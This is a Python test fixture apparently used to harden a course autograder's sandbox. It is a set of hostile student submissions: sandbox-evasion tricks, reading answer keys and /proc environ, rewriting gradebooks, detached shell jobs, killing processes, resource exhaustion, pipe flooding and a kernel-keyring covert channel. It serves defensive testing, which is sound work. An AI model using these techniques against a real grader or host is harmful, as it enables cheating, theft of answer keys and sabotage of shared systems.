"""Submissions that attack the grader (issue 29), each an exercise cell with the outcome the grader must give it;
tests/test_sandbox.py hands them in and grades them with ``python -m cnet_lib grade``.

A cell is a template (:func:`cell`): ``{KEY}``, ``{SUBMISSIONS}``, ``{GRADEBOOK}``, ``{FEEDBACK}``, ``{LIBRARY}``,
``{REPO}``, ``{PORT}`` and ``{MARK}`` become the test's paths, a port it listens on and a marker; the attacker is
handed the paths it would have found on the teacher's machine.
"""
from __future__ import annotations

import inspect
import io
import re
import zipfile

from cnet_lib.studies.robustness import study as perturbations

# ----------------------------------------------------------------------------- the library by computed names
COMPUTED_NAMES = '''import sys

g = getattr


def rk_step(f, t, x, h, tableau):
    g(sys, "set" + "profile")(None)
    g(g(sys, "modules")["threading"], "set" + "profile")(None)
    module = sys.modules["cnet_lib" + ".core.inte" + "grate"]
    return g(module, "inte" + "grate")(f, x, tableau, 1, t_span=(t, t + h))'''

IMPORT_BY_STRING = '''import operator

import torch

from cnet_lib.pendulum import exact_solution


def global_error(G, scheme, dt, t_final):
    builtins = getattr(getattr, "__self__")
    odenet = vars(builtins)["__imp" + "ort__"]("cnet_lib" + ".pendulum.ode" + "net", fromlist=["x"])
    measure, roll = operator.attrgetter("global" + "_error", "roll" + "out")(odenet)
    x0 = torch.tensor(exact_solution(0.0), dtype=torch.float64)
    return measure(roll(G, x0, scheme, dt, round(t_final / dt)), t_final)'''

EXEC_BASE64 = '''import base64

HIDDEN = base64.b64encode(b"out = block(x)").decode()


def euler_block_as_resnet(block, x):
    space = {"block": block, "x": x}
    getattr(getattr, "__self__").exec(base64.b64decode(HIDDEN).decode(), space)
    return space["out"]'''

# ----------------------------------------------------------------------------- torch and numpy doing the work
TORCH_QUANTIZES = '''import torch


def quantize_per_channel(w, bits):
    levels = 2 ** (bits - 1) - 1
    scale = w.abs().flatten(1).amax(dim=1) / levels
    safe = torch.where(scale > 0, scale, torch.ones_like(scale)).float()
    zero = torch.zeros_like(safe)
    return torch._fake_quantize_learnable_per_channel_affine(w.float(), safe, zero, 0, -levels, levels, 1.0).to(w.dtype)'''

TORCH_INTERPOLATES = '''import numpy as np
import torch
import torch.nn.functional as F


def refine_piecewise_linear(coeffs):
    m = coeffs.shape[0]
    flat = coeffs.reshape(m, -1).T[None]
    try:
        fine = F.interpolate(flat, size=2 * m - 1, mode="linear", align_corners=True)
    except Exception as torch_error:
        try:
            grid = np.linspace(0, m - 1, 2 * m - 1)
            fine = torch.tensor(np.stack([np.interp(grid, np.arange(m), row) for row in flat[0].numpy()]))[None]
        except Exception as numpy_error:
            raise RuntimeError(f"{torch_error} | {numpy_error}")
    return fine[0].T.reshape(2 * m - 1, *coeffs.shape[1:]).to(coeffs.dtype)'''

UNCOUNTED_RATE = '''def embedded_step(f, t, x, h, tableau, b_hat):
    quiet = getattr(f, "fn", None) or getattr(f, "__wrapped__", None) or f  # the rate without its counter?

    def combine(weights, rate):
        k = []
        for i in range(tableau.stages):
            X = x
            for j in range(i):
                X = X + h * float(tableau.a[i][j]) * k[j]
            k.append(rate(t + float(tableau.c[i]) * h, X))
        return x + h * sum(float(w) * ki for w, ki in zip(weights, k))

    try:
        f.calls = 0
    except Exception:
        pass
    return combine(tableau.b, f), combine(tableau.b, f) - combine(b_hat, quiet)'''

PASTED = "import torch\n\nfrom cnet_lib.core.validation import check_int\n\n\n" + inspect.getsource(
    perturbations.quantize_per_channel).replace("channel_dim: int = 0", "channel_dim=0")
"""The library's own quantize_per_channel, pasted from the students' wheel (it computes the right answer)."""

# ----------------------------------------------------------------------------- the teacher's files
SNOOP = '''import os


def identity_gap(rows):
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    commands = []
    for pid in pids:
        try:
            commands.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode())
        except OSError:
            pass
    read, wrote = [], []
    for path in ("{KEY}/key.json", "{KEY}/answer_key.md", f"/proc/{os.getppid()}/environ", "{REPO}/book/adaptive.ipynb",
                 "{SUBMISSIONS}/victim/refinement_training.ipynb"):
        try:
            print(open(path, errors="replace").read()[:2000])
            read.append(path)
        except OSError:
            pass
    for path in ("{SUBMISSIONS}/victim/refinement_training.ipynb", "{LIBRARY}/{MARK}.py", "{KEY}/{MARK}",
                 "{GRADEBOOK}", "/usr/{MARK}"):
        try:
            with open(path, "w") as f:
                f.write("{MARK}")
            wrote.append(path)
        except OSError:
            pass
    grader = [c[:80] for c in commands if "pytest" in c or "--key" in c or "cnet-grade" in c]
    print(f"SEEN pids {pids}; grader {grader}; read {read}; wrote {wrote}; uid {os.getuid()}")
    return 0.0'''

BOOK_SOLUTION = '''import json


def ideal_speedup(n_steps_per_epoch):
    nb = json.load(open("{REPO}/book/refinement_training.ipynb"))
    source = next("".join(c["source"]) for c in nb["cells"] if "def ideal_speedup" in "".join(c["source"])
                  and "solution" in c.get("metadata", {}).get("tags", []))
    space = {}
    exec(source.replace("@solution", ""), space)
    return space["ideal_speedup"](n_steps_per_epoch)'''

NETWORK = '''import socket


def observed_order(dts, errors):
    out = []
    for host in ("127.0.0.1", "1.1.1.1"):
        try:
            socket.create_connection((host, {PORT}), timeout=2).sendall(b"{MARK}")
            out.append(f"{host}: CONNECTED")
        except OSError as err:
            out.append(f"{host}: {err}")
    print("\\n".join(out))
    return 2.0'''

# ----------------------------------------------------------------------------- after the sandbox, the next job
DETACHED = '''import os
import subprocess


def parameters_after_refinement(model):
    script = "sleep 1.{MARK}; echo {MARK} > {GRADEBOOK}; echo {MARK} > {FEEDBACK}/victim.md"
    if os.fork() == 0:
        os.setsid()
        subprocess.Popen(["/bin/sh", "-c", script], start_new_session=True)
        os._exit(0)
    return model.n_parameters()'''

SABOTAGE = '''import os


def ideal_speedup(n_steps_per_epoch):
    for folder in ("/tmp", os.environ.get("TMPDIR", "/tmp")):
        for n in range(200):
            for name in (f"job{n}.json", f"job{n}.out", f"cnet-grade-{n}"):
                try:
                    os.makedirs(os.path.join(folder, name), exist_ok=True)
                    os.symlink("/", os.path.join(folder, name, "root"))
                except OSError:
                    pass
    try:
        os.kill(-1, 9)  # every process it can see (the grader is not among them)
    except OSError:
        pass
    os._exit(0)  # and the sandbox ends without a result'''

# ----------------------------------------------------------------------------- the way out, flooded
FLOOD_RESULT = '''import os
import sys


def rk_step(f, t, x, h, tableau):
    fd = int(sys.argv[2])  # the runner's result pipe
    block = b"{" + b" " * (1 << 20)
    for _ in range(40):
        os.write(fd, block)  # 40 MiB: more than the grader reads
    return x'''

FLOOD_RATE = '''import json
import os


def embedded_step(f, t, x, h, tableau, b_hat):
    request = (json.dumps({"id": f.ident, "t": 0.0, "x": {"$": "tensor", "dtype": "float64", "shape": [2],
                                                            "data": [0.0, 0.0]}}) + "\\n").encode()
    for _ in range(200000):
        os.write(f.fd, request)  # requests, never reading a reply
    return x, x'''

# ----------------------------------------------------------------------------- memory, processes, disk
MEMORY = '''import subprocess
import sys


def error_ratio(e, y0, y1, rtol, atol):
    code = "b = bytearray(450 * 2**20); import time; time.sleep(1.5)"
    return sum(p.wait() for p in [subprocess.Popen([sys.executable, "-c", code]) for _ in range(3)])'''

PROCESSES = '''import subprocess


def global_error(G, scheme, dt, t_final):
    started = []
    try:
        for _ in range(300):
            started.append(subprocess.Popen(["sleep", "30"]))
    except OSError as err:
        raise RuntimeError(f"{len(started)} processes, then {err}")
    return 0.0'''

PROCESSES_HELD = PROCESSES.replace("    return 0.0", "    import time\n    time.sleep(2)\n    return 0.0")
"""PROCESSES, its processes kept for 2 s before it returns: where only the grader's count (five times a second) caps
them, a count that must see them."""

DISK = '''def euler_block_as_resnet(block, x):
    written = []
    for i in range(3):
        try:
            with open(f"/tmp/big{i}", "wb") as f:
                for _ in range(200):
                    f.write(b"x" * 2**20)
            written.append(i)
        except OSError as err:
            raise RuntimeError(f"files {written} written, then {err}")
    return x'''

# ----------------------------------------------------------------------------- a third round (issue 56)
SECOND_SCIPY = '''import glob
import importlib
import os
import sys
import types

import numpy as np
import torch


def _ivp():
    # another scipy than the environment's: the base interpreter's, or a distribution's under /usr
    for root in sorted({sys.base_prefix, sys.prefix, "/usr", "/usr/local"}):
        for pattern in ("lib*/python3*/*-packages/scipy/integrate/_ivp", "lib/python3/dist-packages/scipy/integrate/_ivp"):
            for folder in glob.glob(os.path.join(root, pattern)):
                if os.path.isfile(os.path.join(folder, "rk.py")):  # a package of its own name, its __init__ not run
                    package = types.ModuleType("again_ivp")
                    package.__path__ = [folder]
                    sys.modules["again_ivp"] = package
                    return importlib.import_module("again_ivp.rk")
    raise RuntimeError("no second copy of scipy in reach")


def rk_step(f, t, x, h, tableau):
    rk = _ivp()
    a, b, c = (np.array(v, dtype=float) for v in (tableau.a, tableau.b, tableau.c))

    def rate(s, y):
        return f(s, torch.tensor(y.reshape(x.shape), dtype=x.dtype)).numpy().ravel()

    y = x.detach().numpy().astype(float).ravel()
    K = np.empty((len(b) + 1, y.size))
    y_new, _ = rk.rk_step(rate, float(t), y, rate(float(t), y), float(h), a, b, c, K)
    return torch.tensor(y_new.reshape(x.shape), dtype=x.dtype)'''
"""rk_step by scipy's own ``rk_step``, from a copy of scipy outside the environment the grader chose."""

ZOOM = '''import torch
from scipy import ndimage


def refine_piecewise_linear(coeffs):
    m = coeffs.shape[0]
    if m == 1:
        return torch.cat([coeffs, coeffs])
    a = coeffs.detach().numpy().astype(float)
    fine = ndimage.zoom(a, [(2 * m - 1) / m] + [1] * (a.ndim - 1), order=1, grid_mode=False)
    return torch.tensor(fine, dtype=coeffs.dtype)'''
"""Linear refinement by scipy.ndimage's zoom of order 1 (the exercise's answer, computed by a library)."""

CHAINS = '''import pkgutil

import numpy as np


def rk_step(f, t, x, h, tableau):
    np.ctypeslib.ctypes.CDLL(None)
    pkgutil.os.system("true")
    assert pkgutil.sys.modules
    pkgutil.importlib.import_module("builtins").eval("1")
    k = []
    for i in range(tableau.stages):
        X = x
        for j in range(i):
            X = X + h * float(tableau.a[i][j]) * k[j]
        k.append(f(t + float(tableau.c[i]) * h, X))
    return x + h * sum(float(b) * ki for b, ki in zip(tableau.b, k))'''
"""The student's own rk_step, with ctypes, os.system, sys.modules and eval reached through attribute chains."""
CHAINS_REACH = ("ctypes", "os.system", "sys.modules", "importlib")
"""What the audit must name in CHAINS (each reached from a module that is not it)."""

KEYRING = '''import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
USER_KEYRING, KEYCTL_SEARCH, KEYCTL_READ = -4, 10, 11


def keyring(what, data):
    if what == "write":
        found = libc.syscall(ADD_KEY, b"user", b"cnet-{MARK}", data, len(data), USER_KEYRING)
        return f"add_key: {found} (errno {ctypes.get_errno()})"
    key = libc.syscall(KEYCTL, KEYCTL_SEARCH, USER_KEYRING, b"user", b"cnet-{MARK}", 0)
    if key < 0:
        return f"search: {key} (errno {ctypes.get_errno()})"
    buf = ctypes.create_string_buffer(4096)
    size = libc.syscall(KEYCTL, KEYCTL_READ, key, buf, 4096)
    return "READ " + buf.raw[:max(size, 0)].decode(errors="replace")


def ideal_speedup(n_steps_per_epoch):
    n = list(n_steps_per_epoch)
    print("{WHAT}", keyring("{WHAT}", repr(n).encode()))
    return len(n) * n[-1] / sum(n)'''
"""The kernel keyring as a channel: the writer stores its hidden-case inputs in the user keyring of the uid every
sandbox runs as, the reader (graded next) looks for them; both print what the kernel said."""


def flood_notebook(items: int, source_zero: bool = False) -> bytes:
    """A notebook whose cells list holds ``items`` non-cells (a bare ``0``, two bytes each) or, with
    ``source_zero``, code cells whose source is ``0``."""
    item = '{"cell_type": "code", "source": 0}' if source_zero else "0"
    return ('{"cells": [' + ",".join([item] * items) + '], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}').encode()


def flood_zip(items: int = 1_000_000, notebooks: int = 40) -> bytes:
    """A zip of ``notebooks`` flood notebooks (every other one of ``items // 5`` cells whose source is ``0``), each
    under the size caps."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for i in range(notebooks):
            zf.writestr(f"nb{i:02d}.ipynb", flood_notebook(items // 5 if i % 2 else items, source_zero=bool(i % 2)))
    return buf.getvalue()


def cell(template: str, values: dict) -> str:
    """``template`` with every ``{NAME}`` of ``values`` replaced (no other brace is touched)."""
    return re.sub(r"\{([A-Z]+)\}", lambda m: str(values.get(m.group(1), m.group(0))), template)


ATTACKERS = {
    "a_names": {"pendulum_integrators": {"rk_step": COMPUTED_NAMES, "embedded_step": UNCOUNTED_RATE},
                "resnet_euler": {"global_error": IMPORT_BY_STRING},
                "continuousnet": {"euler_block_as_resnet": EXEC_BASE64}},
    "b_torch": {"robustness": {"quantize_per_channel": TORCH_QUANTIZES},
                "refinement_training": {"refine_piecewise_linear": TORCH_INTERPOLATES}},
    "c_paste": {"robustness": {"quantize_per_channel": PASTED}},
    "d_snoop": {"manifestation_invariance": {"identity_gap": SNOOP}, "how_to_use": {"observed_order": NETWORK},
                "refinement_training": {"ideal_speedup": BOOK_SOLUTION}},
    "e_after": {"refinement_training": {"parameters_after_refinement": DETACHED, "ideal_speedup": SABOTAGE}},
    "f_hog": {"adaptive": {"error_ratio": MEMORY}, "resnet_euler": {"global_error": PROCESSES},
              "continuousnet": {"euler_block_as_resnet": DISK}},
    "g_flood": {"pendulum_integrators": {"rk_step": FLOOD_RESULT, "embedded_step": FLOOD_RATE}},
    "n_second_copy": {"pendulum_integrators": {"rk_step": SECOND_SCIPY},
                      "refinement_training": {"refine_piecewise_linear": ZOOM}},
    "o_chains": {"pendulum_integrators": {"rk_step": CHAINS}},
    "p_keyring": {"refinement_training": {"ideal_speedup": cell(KEYRING, {"WHAT": "write"})}},
    "q_keyring": {"refinement_training": {"ideal_speedup": cell(KEYRING, {"WHAT": "read"})}},
}
"""Attacker -> chapter -> exercise -> cell; every attacker hands in only the chapters it attacks."""


ZERO_AND_LIBRARY_FLAG = {("a_names", "rk_step"), ("a_names", "global_error"), ("a_names", "euler_block_as_resnet"),
                         ("b_torch", "quantize_per_channel"), ("b_torch", "refine_piecewise_linear")}
"""The library, torch or numpy routine the cell reaches is absent: zero, and a flag naming what it called."""
